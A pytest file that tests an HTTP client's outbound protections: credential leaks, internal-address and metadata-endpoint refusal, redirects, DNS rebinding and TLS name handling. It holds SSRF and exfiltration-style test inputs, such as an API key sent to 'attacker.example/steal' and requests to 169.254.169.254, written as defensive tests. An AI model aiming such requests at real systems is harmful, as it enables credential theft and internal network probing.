"""The HTTP client's destination checks: before sending (mocked with
``responses``), and at connect time against real local sockets (a name that
resolves to an internal address, DNS answers that change, TLS with the host
name kept while the socket goes to the checked address)."""

import datetime
import http.server
import ipaddress
import socket
import ssl
import threading

import pytest
import requests
import responses
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from qtc_connector_base.lib.destinations import (
    DestinationPolicy,
    OutboundRefused,
    parse_host_entries,
    parse_networks,
)
from qtc_connector_base.lib.errors import RetryableError
from qtc_connector_base.lib.http import HttpBusinessError, HttpClient

API_KEY = "sk_live_0123456789abcdefXYZ"
STRIPE = DestinationPolicy(
    provider_label="Stripe",
    provider_hosts=("api.stripe.com",),
    secrets_to_provider_only=True,
)
CALLBACK = DestinationPolicy(provider_label="PSA", secrets_to_provider_only=True)
LOOPBACK = parse_networks("127.0.0.0/8")


@pytest.fixture
def mocked():
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        yield rsps


# -- refused before sending -----------------------------------------------------


def test_credentials_never_leave_for_another_host(mocked):
    client = HttpClient(secrets=[API_KEY], policy=STRIPE)
    mocked.get("https://api.stripe.com/v1/balance", json={})
    mocked.get("https://attacker.example/v1/balance", json={})
    client.request("GET", "https://api.stripe.com/v1/balance", auth=(API_KEY, ""))
    with pytest.raises(OutboundRefused) as caught:
        client.request("GET", "https://attacker.example/v1/balance", auth=(API_KEY, ""))
    assert len(mocked.calls) == 1, "nothing was sent to the other host"
    assert "attacker.example is not a host of Stripe (api.stripe.com)" in str(
        caught.value
    )
    assert API_KEY not in str(caught.value)


def test_callback_may_be_signed_but_never_carry_a_stored_secret(mocked):
    client = HttpClient(secrets=[API_KEY], policy=CALLBACK)
    url = "https://psa.example/hooks/odoo-billing"
    mocked.post(url, status=200)
    client.request("POST", url, data=b'{"ok": 1}', headers={"X-QTC-Signature": "v1"})
    for leak in (
        {"data": f'{{"key": "{API_KEY}"}}'.encode()},
        {"headers": {"Authorization": f"Bearer {API_KEY}"}},
        {"json": {"nested": {"key": API_KEY}}},
    ):
        with pytest.raises(OutboundRefused, match="would carry one of the backend"):
            client.request("POST", url, **leak)
    with pytest.raises(OutboundRefused):
        client.request("POST", f"https://psa.example/hooks/{API_KEY}")
    assert len(mocked.calls) == 1


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:5432/", "http://169.254.169.254/latest/meta-data/"]
)
def test_internal_literal_is_refused_before_any_connection(mocked, url):
    with pytest.raises(OutboundRefused) as caught:
        HttpClient(policy=CALLBACK).request("POST", url, data=b"{}")
    assert not mocked.calls
    assert "Use the system's public https address" in str(caught.value)


def test_production_sends_nothing_in_clear(mocked):
    client = HttpClient(policy=DestinationPolicy(require_https=True))
    with pytest.raises(OutboundRefused, match="is not https"):
        client.request("POST", "http://psa.example/hooks", data=b"{}")
    assert not mocked.calls


# -- redirects -------------------------------------------------------------------


def test_post_is_never_redirected(mocked):
    url = "https://psa.example/hooks"
    mocked.post(url, status=307, headers={"Location": "https://elsewhere.example/x"})
    mocked.post("https://elsewhere.example/x", status=200)
    with pytest.raises(HttpBusinessError) as caught:
        HttpClient(policy=CALLBACK).request("POST", url, data=b'{"a": 1}')
    assert len(mocked.calls) == 1, "the body was not sent again"
    assert caught.value.status == 307
    assert "only GET requests follow redirects" in str(caught.value)
    assert "https://elsewhere.example/x" in str(caught.value)


def test_get_redirect_to_the_provider_is_followed(mocked):
    first = "https://api.stripe.com/v1/files/f_1"
    mocked.get(first, status=302, headers={"Location": "/v1/files/f_1/contents"})
    mocked.get("https://api.stripe.com/v1/files/f_1/contents", body=b"data")
    response = HttpClient(secrets=[API_KEY], policy=STRIPE).request(
        "GET", first, auth=(API_KEY, "")
    )
    assert response.content == b"data"
    assert len(mocked.calls) == 2
    assert "Authorization" in mocked.calls[1].request.headers, "same host"


@pytest.mark.parametrize(
    "target",
    [
        "https://attacker.example/steal",
        "http://169.254.169.254/latest/meta-data/",
        "https://127.0.0.1:8069/web",
    ],
)
def test_get_redirect_is_checked_like_the_first_request(mocked, target):
    first = "https://api.stripe.com/v1/balance"
    mocked.get(first, status=302, headers={"Location": target})
    with pytest.raises(OutboundRefused):
        HttpClient(secrets=[API_KEY], policy=STRIPE).request(
            "GET", first, auth=(API_KEY, "")
        )
    assert len(mocked.calls) == 1


def test_cross_host_get_redirect_drops_credentials(mocked):
    first = "https://files.example/a"
    mocked.get(first, status=302, headers={"Location": "https://cdn.example/a"})
    mocked.get("https://cdn.example/a", body=b"x")
    HttpClient(policy=DestinationPolicy()).request(
        "GET", first, headers={"Authorization": "Bearer t0ken-value"}, auth=("u", "p")
    )
    assert "Authorization" not in mocked.calls[1].request.headers


def test_redirect_loop_stops(mocked):
    url = "https://files.example/loop"
    mocked.get(url, status=302, headers={"Location": url})
    with pytest.raises(HttpBusinessError, match="redirected more than 5 times"):
        HttpClient().request("GET", url)
    assert len(mocked.calls) == 6


# -- checked at connect time: real sockets -----------------------------------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.hosts.append(self.headers.get("Host"))
        body = b"hello"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args):
        pass


class _Server(http.server.ThreadingHTTPServer):
    def __init__(self, tls_context=None):
        super().__init__(("127.0.0.1", 0), _Recorder)
        self.hosts = []
        self.accepted = 0
        self.tls_context = tls_context

    def get_request(self):
        sock, address = super().get_request()
        self.accepted += 1
        if self.tls_context:
            sock = self.tls_context.wrap_socket(sock, server_side=True)
        return sock, address


@pytest.fixture
def server():
    srv = _Server()
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv
    srv.shutdown()
    srv.server_close()


def resolver_for(mapping, calls=None):
    """A getaddrinfo stand-in: ``{name: [address, ...]}``."""

    def resolve(host, port, *_args, **_kwargs):
        if calls is not None:
            calls.append(host)
        answers = mapping[host]
        if callable(answers):
            answers = answers()
        return [
            (
                socket.AF_INET6 if ":" in a else socket.AF_INET,
                socket.SOCK_STREAM,
                6,
                "",
                (a, port),
            )
            for a in answers
        ]

    return resolve


def test_name_resolving_to_loopback_is_refused_without_connecting(server):
    port = server.server_address[1]
    with pytest.raises(OutboundRefused) as caught:
        HttpClient().request("GET", f"http://localhost:{port}/")
    assert "localhost" in str(caught.value)
    assert "a loopback address" in str(caught.value)
    assert server.accepted == 0, "no connection was made"


def test_internal_answer_of_a_public_looking_name_is_refused(server):
    port = server.server_address[1]
    client = HttpClient(
        resolver=resolver_for({"psa.example": ["127.0.0.1"]}), policy=CALLBACK
    )
    with pytest.raises(OutboundRefused, match=r"psa\.example \(127\.0\.0\.1\)"):
        client.request("GET", f"http://psa.example:{port}/")
    assert server.accepted == 0


def test_one_internal_answer_among_public_ones_refuses_the_name(server):
    port = server.server_address[1]
    client = HttpClient(
        resolver=resolver_for({"psa.example": ["93.184.216.34", "127.0.0.1"]})
    )
    with pytest.raises(OutboundRefused):
        client.request("GET", f"http://psa.example:{port}/")
    assert server.accepted == 0


def test_allowed_network_connects_to_the_checked_address_resolved_once(server):
    port = server.server_address[1]
    calls = []
    answers = iter([["127.0.0.1"], ["10.9.9.9"]])  # a rebinding DNS server
    client = HttpClient(
        resolver=resolver_for({"standin.test": lambda: next(answers)}, calls),
        policy=DestinationPolicy(allowed_networks=parse_networks("127.0.0.1/32")),
    )
    response = client.request("GET", f"http://standin.test:{port}/")
    assert response.text == "hello"
    assert calls == ["standin.test"], "resolved once; the socket used that answer"
    assert server.hosts == [f"standin.test:{port}"], "the Host header keeps the name"


def test_allowed_host_may_resolve_to_loopback(server):
    port = server.server_address[1]
    client = HttpClient(
        resolver=resolver_for({"standin.test": ["127.0.0.1"]}),
        policy=DestinationPolicy(
            allowed_hosts=parse_host_entries(f"standin.test:{port}")
        ),
    )
    assert client.request("GET", f"http://standin.test:{port}/").text == "hello"


def test_refused_connection_is_retryable_not_refused(server):
    # A public-looking address nobody listens on: the policy passes, the
    # connection fails, the job will retry.
    client = HttpClient(
        resolver=resolver_for({"down.test": ["127.0.0.1"]}),
        policy=DestinationPolicy(allowed_networks=LOOPBACK),
        timeout=(2.0, 2.0),
    )
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        free_port = probe.getsockname()[1]
    with pytest.raises(RetryableError, match="unreachable"):
        client.request("GET", f"http://down.test:{free_port}/")


@pytest.fixture
def tls_files(tmp_path):
    """A CA and a certificate for ``standin.test`` (not for 127.0.0.1)."""
    now = datetime.datetime.now(datetime.UTC)

    def make(subject, issuer, key, issuer_key, ca, san=None):
        builder = (
            x509.CertificateBuilder()
            .subject_name(subject)
            .issuer_name(issuer)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(hours=1))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), True)
        )
        if san:
            builder = builder.add_extension(x509.SubjectAlternativeName(san), False)
        return builder.sign(issuer_key, hashes.SHA256())

    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "QTC test CA")])
    ca = make(ca_name, ca_name, ca_key, ca_key, True)
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "standin.test")])
    cert = make(name, ca_name, key, ca_key, False, [x509.DNSName("standin.test")])
    pem = serialization.Encoding.PEM
    (tmp_path / "ca.pem").write_bytes(ca.public_bytes(pem))
    (tmp_path / "cert.pem").write_bytes(cert.public_bytes(pem))
    (tmp_path / "key.pem").write_bytes(
        key.private_bytes(
            pem,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return tmp_path


def test_tls_keeps_the_host_name_while_connecting_to_the_checked_address(tls_files):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tls_files / "cert.pem", tls_files / "key.pem")
    srv = _Server(tls_context=context)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    port = srv.server_address[1]
    try:
        client = HttpClient(
            resolver=resolver_for({"standin.test": ["127.0.0.1"]}),
            policy=DestinationPolicy(allowed_networks=LOOPBACK),
        )
        response = client.request(
            "GET", f"https://standin.test:{port}/", verify=str(tls_files / "ca.pem")
        )
        assert response.text == "hello"
        assert srv.hosts == [f"standin.test:{port}"]
        # The certificate names standin.test, not the address: reaching the
        # address by itself fails verification, so the name was what TLS used.
        with pytest.raises(RetryableError):
            HttpClient(policy=DestinationPolicy(allowed_networks=LOOPBACK)).request(
                "GET", f"https://127.0.0.1:{port}/", verify=str(tls_files / "ca.pem")
            )
    finally:
        srv.shutdown()
        srv.server_close()


def test_plain_requests_session_is_not_used_unchecked(server):
    # The adapters of a session handed to the client are replaced.
    session = requests.Session()
    HttpClient(session=session)
    with pytest.raises(OutboundRefused):
        session.get(f"http://127.0.0.1:{server.server_address[1]}/")
    assert server.accepted == 0
    assert ipaddress.ip_address("127.0.0.1").is_loopback
